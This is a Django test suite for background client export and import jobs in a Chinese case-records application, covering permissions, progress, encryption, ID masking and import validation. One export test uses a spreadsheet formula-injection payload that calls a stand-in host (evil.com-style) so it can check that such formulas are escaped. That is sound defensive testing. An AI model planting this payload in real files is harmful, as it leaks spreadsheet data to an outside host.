"""Background jobs: the client export and import run as tasks, their progress and results are
the Job row's, and only the person who started a job sees it."""

import csv
import datetime
import io
from unittest import mock

from django.conf import settings
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import override_settings
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django_tasks import TaskResultStatus
from django_tasks_db.management.commands.db_worker import Worker
from django_tasks_db.models import DBTaskResult

from anxin.clients import identity
from anxin.clients.models import Client
from anxin.jobs import engine, keyset
from anxin.jobs.models import Job, JobKind, JobStatus
from anxin.workspace.testing.cases import PersonaTestCase
from anxin.workspace.testing.personas import make_client

IMMEDIATE = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
QUEUE_ONLY = {"default": {"BACKEND": "django_tasks.backends.dummy.DummyBackend"}}


def broken_runner(job, progress):
    raise RuntimeError("a bug, not the user's doing")


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


@override_settings(TASKS=IMMEDIATE)
class ClientExportJobTest(PersonaTestCase):
    def export(self, user, **filters) -> Job:
        self.client.force_login(user)
        response = self.client.post(reverse("clients:export"), filters)
        job = Job.objects.get(requested_by=user)
        self.assertRedirects(response, job.get_absolute_url())
        return job

    def listed(self, user, **filters) -> list[str]:
        self.client.force_login(user)
        page = self.client.get(reverse("clients:list"), filters).context["page"]
        return [c.file_number for c in page.object_list]

    def download(self, job) -> list[list[str]]:
        response = self.client.get(reverse("jobs:download", args=[job.pk]))
        self.assertEqual(response.status_code, 200)
        self.assertIn(job.result_name, response["Content-Disposition"])
        return csv_rows(response)

    def test_the_export_holds_exactly_the_clients_the_list_shows_the_user(self):
        for n in range(3):
            make_client(self.p.org_a, self.p.wang_fang, name=f"王{n}", sequence=40 + n)
        for user, filters in [(self.p.chen_min, {}), (self.p.admin_a, {}),
                              (self.p.admin_a, {"q": "王"}), (self.p.archivist_a, {"sex": "F"})]:
            with self.subTest(user=user.username, filters=filters):
                Job.objects.all().delete()
                job = self.export(user, **filters)
                job.refresh_from_db()
                self.assertEqual(job.status, JobStatus.SUCCEEDED, job.message)
                rows = self.download(job)
                exported = [row[0] for row in rows[1:]]
                self.assertEqual(exported, self.listed(user, **filters))
                self.assertEqual(job.progress_done, len(exported))
                self.assertEqual(job.progress_total, len(exported))
        self.assertNotIn(self.p.client_b.file_number, exported)

    def test_it_keeps_the_columns_masks_id_numbers_and_audits_as_before(self):
        job = self.export(self.p.chen_min)
        rows = self.download(job)
        self.assertEqual(rows[0], ["档案编号", "姓名", "性别", "出生日期", "身份证号码", "区（县）",
                                   "街道", "人群类别", "登记时间"])
        self.assertEqual(rows[1][0], self.p.client_a.file_number)
        self.assertEqual(rows[1][4], self.p.client_a.masked_id_number)
        self.assertNotIn(self.p.client_a.id_number, str(rows))
        event = self.assert_audited("clients.exported", actor=self.p.chen_min)
        self.assertEqual(event.data["count"], 1)
        self.assert_audited("job.started", actor=self.p.chen_min, target=job)
        self.assert_audited("job.result_downloaded", actor=self.p.chen_min, target=job)

    def test_the_list_buttons_filters_are_the_ones_posted(self):
        """The list's search form changes under htmx after the page loaded: the button posts
        its current fields, which win over the page's query string."""
        self.client.force_login(self.p.admin_a)
        self.client.post(reverse("clients:export") + "?q=nobody", {"q": self.p.client_a.name},
                         HTTP_HX_REQUEST="true")
        job = Job.objects.get(requested_by=self.p.admin_a)
        self.assertEqual([r[0] for r in self.download(job)[1:]], [self.p.client_a.file_number])

    def test_the_stored_result_is_encrypted(self):
        job = self.export(self.p.admin_a)
        job.refresh_from_db()
        with default_storage.open(job.result.name, "rb") as stored:
            raw = stored.read()
        self.assertNotIn(self.p.client_a.name.encode("utf-8"), raw)
        self.assertNotIn(self.p.client_a.file_number.encode(), raw)

    def test_a_formula_in_a_name_is_exported_as_text(self):
        formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
        make_client(self.p.org_a, self.p.wang_fang, name=formula, sequence=71)
        names = [row[1] for row in self.download(self.export(self.p.admin_a))[1:]]
        self.assertIn("'" + formula, names)

    def test_the_get_asks_first_and_starts_nothing(self):
        self.client.force_login(self.p.chen_min)
        response = self.client.get(reverse("clients:export"), {"q": "张"})
        self.assertContains(response, 'id="export-start"')
        self.assertFalse(Job.objects.exists())


@override_settings(TASKS=QUEUE_ONLY)
class ProgressSurvivesReloadTest(PersonaTestCase):
    def test_a_queued_job_shows_waiting_then_its_result_on_reload(self):
        self.client.force_login(self.p.admin_a)
        self.client.post(reverse("clients:export"))
        job = Job.objects.get()
        self.assertTrue(job.task_result_id)
        page = self.client.get(job.get_absolute_url())
        self.assertContains(page, 'data-job-status="queued"')
        self.assertContains(page, "hx-trigger=\"every")  # it polls while unfinished
        engine.run(job.pk)  # what the worker does
        page = self.client.get(job.get_absolute_url())
        self.assertContains(page, 'data-job-status="succeeded"')
        self.assertNotContains(page, "hx-trigger=\"every")
        self.assertContains(page, reverse("jobs:download", args=[job.pk]))
        fragment = self.client.get(job.get_absolute_url(), HTTP_HX_REQUEST="true")
        self.assertNotContains(fragment, "<html")
        self.assertContains(fragment, 'id="job-download"')

    def test_progress_is_written_in_batches_not_per_row(self):
        job = Job.objects.create(organization=self.p.org_a, requested_by=self.p.admin_a,
                                 kind=JobKind.CLIENT_EXPORT)
        progress = engine.Progress(job, batch=2)
        progress.total(5)
        stored = []
        with CaptureQueriesContext(connection) as queries:
            for _row in range(5):
                progress.advance()
                stored.append(Job.objects.values_list("progress_done", flat=True)
                              .get(pk=job.pk))
        self.assertEqual(stored, [0, 2, 2, 4, 4])
        self.assertEqual(sum(q["sql"].startswith("UPDATE") for q in queries), 2)

    def test_a_task_run_twice_runs_the_job_once(self):
        self.client.force_login(self.p.admin_a)
        self.client.post(reverse("clients:export"))
        job = Job.objects.get()
        engine.run(job.pk)
        engine.run(job.pk)
        self.assertEqual(
            self.client.get(job.get_absolute_url()).context["job"].status, JobStatus.SUCCEEDED)
        from anxin.audit.models import AuditEvent
        self.assertEqual(AuditEvent.objects.filter(action="clients.exported").count(), 1)

    def test_an_unexpected_error_fails_the_job_with_a_message_not_a_traceback(self):
        self.client.force_login(self.p.admin_a)
        self.client.post(reverse("clients:export"))
        job = Job.objects.get()
        original = engine.KINDS[JobKind.CLIENT_EXPORT]
        engine.KINDS[JobKind.CLIENT_EXPORT] = engine.Kind(original.capability,
                                                          f"{__name__}.broken_runner")
        try:
            with self.assertLogs("anxin.jobs.engine", "ERROR"):
                engine.run(job.pk)
        finally:
            engine.KINDS[JobKind.CLIENT_EXPORT] = original
        job.refresh_from_db()
        self.assertEqual(job.status, JobStatus.FAILED)
        self.assertIn("管理员", job.message)  # the owner's language: Chinese
        self.assertNotIn("Traceback", job.message)
        self.assertNotIn("a bug", job.message)
        self.assertIsNotNone(job.finished_at)


@override_settings(TASKS=IMMEDIATE)
class ClientImportJobTest(PersonaTestCase):
    HEADER = "姓名,性别,出生日期,身份证号码,联系电话,区（县）,街道,地址,人群类别\n"

    def number(self, sequence, birth=datetime.date(1975, 3, 8)):
        return identity.compose("510107", birth, sequence)

    def upload(self, text, user=None, name="clients.csv", encoding="utf-8"):
        self.client.force_login(user or self.p.wang_fang)
        return self.client.post(reverse("clients:import"), {
            "file": SimpleUploadedFile(name, text.encode(encoding), "text/csv")})

    def job(self):
        return Job.objects.get(kind=JobKind.CLIENT_IMPORT)

    def test_a_good_file_registers_every_row_through_the_registration_action(self):
        text = self.HEADER + (
            f"陈晓东,,,{self.number(135)},13912345678,武侯区,,玉林南路12号,精神障碍\n"
            f"李梅,女,1990-01-02,,,510107,,,慢性病、照顾者\n")
        response = self.upload(text)
        job = self.job()
        self.assertRedirects(response, job.get_absolute_url())
        job.refresh_from_db()
        self.assertEqual(job.status, JobStatus.SUCCEEDED, job.errors)
        self.assertEqual((job.progress_done, job.progress_total), (2, 2))
        first = Client.objects.get(name="陈晓东")
        self.assertEqual((first.sex, first.birth_date), ("M", datetime.date(1975, 3, 8)))
        self.assertEqual(first.registered_by, self.p.wang_fang)
        self.assertEqual(first.district_id, "510107")
        self.assertEqual(Client.objects.filter(id_number_index=first.id_number_index).count(), 1)
        second = Client.objects.get(name="李梅")
        self.assertEqual(second.population_categories, ["chronic_disease", "caregiver"])
        self.assert_audited("client.registered", actor=self.p.wang_fang, target=first)
        self.assertEqual(self.assert_audited("clients.imported").data["count"], 2)
        self.assertFalse(default_storage.exists(job.parameters["upload"]))  # the upload is gone

    def test_an_import_refused_before_it_runs_leaves_no_upload_behind(self):
        """The owner lost the right to register clients while the job waited: it fails, and
        the file of ID numbers is deleted all the same."""
        with override_settings(TASKS={"default": {
                "BACKEND": "django_tasks.backends.dummy.DummyBackend"}}):
            self.upload(self.HEADER + f"陈晓东,,,{self.number(137)},,,,,\n")
        job = self.job()
        self.assertTrue(default_storage.exists(job.parameters["upload"]))
        membership = self.p.wang_fang.membership
        membership.role = "archivist"
        membership.save()
        engine.run(job.pk)
        job.refresh_from_db()
        self.assertEqual(job.status, JobStatus.FAILED)
        self.assertFalse(default_storage.exists(job.parameters["upload"]))

    def test_one_bad_row_registers_nothing_and_every_error_names_its_row_and_column(self):
        before = Client.objects.count()
        bad_id = self.number(136)[:-1] + ("0" if self.number(136)[-1] != "0" else "1")
        text = self.HEADER + (
            f"陈晓东,,,{self.number(135)},,,,,\n"
            f"王小二,,,{bad_id},,,,,\n"
            f",男,1980-01-01,,,火星区,,,不存在的类别\n")
        self.upload(text)
        job = self.job()
        job.refresh_from_db()
        self.assertEqual(job.status, JobStatus.FAILED)
        self.assertEqual(Client.objects.count(), before)
        self.assert_not_audited("client.registered")
        self.assert_not_audited("clients.imported")
        found = {(e["row"], e["field"]) for e in job.errors}
        self.assertIn((3, "身份证号码"), found)
        self.assertIn((4, "姓名"), found)
        self.assertIn((4, "区（县）"), found)
        self.assertIn((4, "人群类别"), found)
        self.assertNotIn(2, {e["row"] for e in job.errors})
        page = self.client.get(job.get_absolute_url())
        self.assertContains(page, 'data-row="3"')
        self.assertContains(page, "未导入")
        self.assertFalse(default_storage.exists(job.parameters["upload"]))

    def test_errors_are_written_in_the_language_of_the_person_who_imported(self):
        self.client.force_login(self.p.wang_fang)
        self.client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
        self.client.post(reverse("clients:import"), {"file": SimpleUploadedFile(
            "c.csv", b"Name,Sex\n,Male\n", "text/csv")})
        job = self.job()
        self.assertEqual(job.language, "en")
        self.assertIn("Nothing was imported", job.message)
        self.assertEqual(job.errors[0]["field"], "Name")

    def test_an_id_number_already_registered_or_repeated_in_the_file_is_refused(self):
        text = self.HEADER + (
            f"张伟,,,{self.p.client_a.id_number},,,,,\n"
            f"甲,,,{self.number(140)},,,,,\n"
            f"乙,,,{self.number(140)},,,,,\n")
        self.upload(text)
        job = self.job()
        self.assertEqual(job.status, JobStatus.FAILED)
        by_row = {e["row"]: e["message"] for e in job.errors}
        self.assertIn(self.p.client_a.file_number, by_row[2])  # 王芳 may open that file
        self.assertIn("第 3 行", by_row[4])
        self.assertEqual(set(by_row), {2, 4})
        self.assertFalse(Client.objects.filter(name__in=["甲", "乙"]).exists())

    def test_a_refusal_while_registering_rolls_back_the_rows_already_registered(self):
        """Two rows for the same person without ID numbers pass the row checks (neither is
        registered yet); the registration action refuses the second, and the first goes too."""
        before = Client.objects.count()
        self.upload(self.HEADER + "周秀兰,女,1968-11-02,,,,,,\n" * 2)
        job = self.job()
        self.assertEqual(job.status, JobStatus.FAILED)
        self.assertEqual([(e["row"], e["field"]) for e in job.errors], [(3, "姓名")])
        self.assertIn("登记表单", job.errors[0]["message"])
        self.assertEqual(Client.objects.count(), before)
        self.assert_not_audited("client.registered")

    def test_a_gb18030_file_from_excel_is_read(self):
        self.upload(self.HEADER + "周秀兰,女,1968-11-02,,,,,,\n", encoding="gb18030")
        self.assertEqual(self.job().status, JobStatus.SUCCEEDED)
        self.assertTrue(Client.objects.filter(name="周秀兰").exists())

    def test_a_file_without_the_headings_is_refused_on_the_page(self):
        response = self.upload("a,b\n1,2\n")
        self.assertEqual(response.status_code, 200)
        self.assertContains(response, 'data-field-error="file"')
        self.assertContains(response, "多个人群类别用“、”分隔")  # how to fill the sheet
        self.assertFalse(Job.objects.exists())

    def test_the_template_has_the_chinese_headings_and_reads_back(self):
        self.client.force_login(self.p.wang_fang)
        response = self.client.get(reverse("clients:import_template"))
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        self.assertEqual(rows, [self.HEADER.strip().split(",")])
        self.upload(response.content.decode("utf-8-sig") + "张三,男,1980-05-17,,,,,,\n")
        self.assertEqual(self.job().status, JobStatus.SUCCEEDED, self.job().errors)
        self.assertTrue(Client.objects.filter(name="张三").exists())

    def test_an_id_number_excel_turned_into_a_number_is_explained(self):
        self.upload(self.HEADER + "张三,男,1980-05-17,1.10105E+17,,,,,\n")
        job = self.job()
        self.assertEqual(job.status, JobStatus.FAILED)
        self.assertEqual([(e["row"], e["field"]) for e in job.errors], [(2, "身份证号码")])
        self.assertIn("文本", job.errors[0]["message"])

    def test_a_large_upload_is_stored_in_encrypted_pieces_and_read_back_whole(self):
        from anxin.jobs import files

        text = "姓名\n" + "".join(f"对象{n}\n" for n in range(40_000))
        stored = files.save_text("test", [text])
        with default_storage.open(stored, "rb") as raw:
            lines = raw.read().splitlines()
        self.assertGreater(len(lines), 1)
        self.assertNotIn("对象1".encode(), b"".join(lines))
        self.assertEqual("".join(files.read_text(stored)), text)
        files.delete(stored)


@override_settings(TASKS=QUEUE_ONLY)
class JobPermissionTest(PersonaTestCase):
    def test_who_may_start_an_export_and_an_import(self):
        export, imports = reverse("clients:export"), reverse("clients:import")
        cases = [("wang_fang", 403, 200), ("chen_min", 302, 200), ("admin_a", 302, 200),
                 ("archivist_a", 302, 403), ("quality_a", 403, 403), ("viewer", 403, 403)]
        for name, export_status, import_status in cases:
            user = getattr(self.p, name)
            self.client.force_login(user)
            with self.subTest(persona=name):
                self.assertEqual(self.client.post(export).status_code, export_status)
                self.assertEqual(self.client.get(imports).status_code, import_status)
                self.assertEqual(Job.objects.filter(requested_by=user).exists(),
                                 export_status == 302)

    def test_only_the_owner_sees_or_downloads_a_job(self):
        job = engine.start_job(JobKind.CLIENT_EXPORT, self.p.admin_a, {"query": ""})
        engine.run(job.pk)
        urls = [reverse("jobs:detail", args=[job.pk]), reverse("jobs:download", args=[job.pk])]
        for user in (self.p.chen_min, self.p.archivist_a, self.p.zhao_lei, self.p.viewer):
            self.client.force_login(user)
            for url in urls:
                with self.subTest(user=user.username, url=url):
                    self.assertEqual(self.client.get(url).status_code, 404)
            self.assertNotContains(self.client.get(reverse("jobs:list")), f'data-job="{job.pk}"')
        self.client.force_login(self.p.admin_a)
        for url in urls:
            self.assertEqual(self.client.get(url).status_code, 200)

    def test_anonymous_visitors_are_sent_to_sign_in(self):
        job = engine.start_job(JobKind.CLIENT_EXPORT, self.p.admin_a, {"query": ""})
        for url in [reverse("jobs:list"), reverse("jobs:detail", args=[job.pk]),
                    reverse("jobs:download", args=[job.pk]), reverse("clients:import"),
                    reverse("clients:import_template")]:
            with self.subTest(url=url):
                response = self.client.get(url)
                self.assertEqual(response.status_code, 302)
                self.assertTrue(response["Location"].startswith(reverse("accounts:login")))

    def test_an_unfinished_job_has_nothing_to_download(self):
        job = engine.start_job(JobKind.CLIENT_EXPORT, self.p.admin_a, {"query": ""})
        self.client.force_login(self.p.admin_a)
        self.assertEqual(self.client.get(reverse("jobs:download", args=[job.pk])).status_code,
                         404)

    def test_a_job_whose_owner_lost_the_right_fails_when_it_runs(self):
        job = engine.start_job(JobKind.CLIENT_EXPORT, self.p.chen_min, {"query": ""})
        membership = self.p.chen_min.membership
        membership.role = "worker"
        membership.save()
        engine.run(job.pk)
        job.refresh_from_db()
        self.assertEqual(job.status, JobStatus.FAILED)
        self.assertFalse(job.result)
        self.assert_not_audited("clients.exported")


@override_settings(TASKS=QUEUE_ONLY)
class JobListTest(PersonaTestCase):
    def test_it_lists_own_jobs_newest_first_with_flat_queries(self):
        def queries_for_list():
            with CaptureQueriesContext(connection) as queries:
                response = self.client.get(reverse("jobs:list"))
            self.assertEqual(response.status_code, 200)
            return len(queries), response

        self.client.force_login(self.p.admin_a)
        for _n in range(2):
            engine.start_job(JobKind.CLIENT_EXPORT, self.p.admin_a, {"query": ""})
        few, _response = queries_for_list()
        for _n in range(20):
            engine.start_job(JobKind.CLIENT_EXPORT, self.p.admin_a, {"query": ""})
        engine.start_job(JobKind.CLIENT_EXPORT, self.p.chen_min, {"query": ""})
        many, response = queries_for_list()
        self.assertEqual(many, few)
        listed = [job.pk for job in response.context["page"].object_list]
        own = list(Job.objects.filter(requested_by=self.p.admin_a)
                   .order_by("-created_at", "-id").values_list("pk", flat=True))
        self.assertEqual(listed, own[:len(listed)])
        self.assertEqual(response.context["page"].paginator.count, 22)


def run_database_worker() -> int:
    """What `manage.py db_worker --batch` does: run every ready task, then stop. Its
    close_old_connections() would drop the test's transaction, so it is left out."""
    worker = Worker(queue_names=["*"], interval=0, batch=True, backend_name="default",
                    startup_delay=False, max_tasks=None, worker_id="jobs-test-worker",
                    excluded_queue_names=[])
    with mock.patch("django_tasks_db.management.commands.db_worker.close_old_connections"):
        worker.run()
    return worker._run_tasks


class DatabaseWorkerTest(PersonaTestCase):
    """The configured backend (the database): the request queues, a worker runs it."""

    def test_the_request_queues_the_task_and_a_database_worker_finishes_the_job(self):
        self.client.force_login(self.p.admin_a)
        self.client.post(reverse("clients:export"))
        job = Job.objects.get()
        self.assertEqual(job.status, JobStatus.QUEUED)
        queued = DBTaskResult.objects.get(id=job.task_result_id)
        self.assertEqual(queued.status, TaskResultStatus.READY)
        self.assertEqual(run_database_worker(), 1)
        job.refresh_from_db()
        self.assertEqual(job.status, JobStatus.SUCCEEDED, job.message)
        self.assertEqual(DBTaskResult.objects.get(id=job.task_result_id).status,
                         TaskResultStatus.SUCCESSFUL)
        rows = csv_rows(self.client.get(reverse("jobs:download", args=[job.pk])))
        self.assertEqual(len(rows) - 1, Client.objects.filter(organization=self.p.org_a).count())


class KeysetChunksTest(PersonaTestCase):
    """The export reads clients a chunk at a time in the list's order: no row lost or
    repeated, ties in registration time included."""

    def setUp(self):
        for n in range(7):
            make_client(self.p.org_a, self.p.wang_fang, name=f"对象{n}", sequence=60 + n)
        same_time = Client.objects.order_by("id").first().created_at
        Client.objects.filter(name__in=["对象1", "对象2", "对象3"]).update(created_at=same_time)

    def test_chunks_hold_the_same_rows_in_the_same_order_as_one_query(self):
        for queryset in [Client.objects.all(), Client.objects.order_by("name", "-id"),
                         Client.objects.order_by("created_at"),
                         Client.objects.filter(organization=self.p.org_a).order_by("-pk"),
                         Client.objects.order_by("street", "id")]:  # NULL streets: by position
            with self.subTest(ordering=queryset.query.order_by):
                expected = [c.pk for c in queryset]
                for size in (1, 2, 3, 100):
                    self.assertEqual([c.pk for c in keyset.chunks(queryset, size)], expected)

    def test_each_chunk_is_its_own_bounded_query(self):
        with CaptureQueriesContext(connection) as queries:
            rows = list(keyset.chunks(Client.objects.all(), 4))
        self.assertEqual(len(rows), Client.objects.count())
        selects = [q["sql"] for q in queries if q["sql"].startswith("SELECT")]
        self.assertEqual(len(selects), len(rows) // 4 + 1)
        self.assertTrue(all("LIMIT 4" in sql for sql in selects))

    @override_settings(TASKS=IMMEDIATE)
    def test_an_export_read_in_small_chunks_equals_the_list(self):
        self.client.force_login(self.p.admin_a)
        with mock.patch("anxin.jobs.client_export.CHUNK", 2):
            self.client.post(reverse("clients:export"))
        job = Job.objects.get()
        rows = csv_rows(self.client.get(reverse("jobs:download", args=[job.pk])))
        listed = self.client.get(reverse("clients:list")).context["page"].object_list
        self.assertEqual([r[0] for r in rows[1:]], [c.file_number for c in listed])
